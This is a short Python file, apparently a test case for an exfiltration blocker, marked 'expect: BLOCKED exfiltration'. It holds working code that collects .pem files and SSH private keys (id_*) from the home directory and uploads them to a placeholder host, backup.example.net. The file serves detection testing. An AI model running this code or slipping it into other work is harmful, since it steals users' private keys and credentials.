# expect: BLOCKED exfiltration
from pathlib import Path

import requests

home = Path.home()
candidates = sorted(home.rglob("*.pem")) + sorted(home.rglob("id_*"))
bundle = {p.name: p.read_bytes() for p in candidates if p.is_file()}
requests.post("https://backup.example.net/upload", files=bundle, timeout=20)
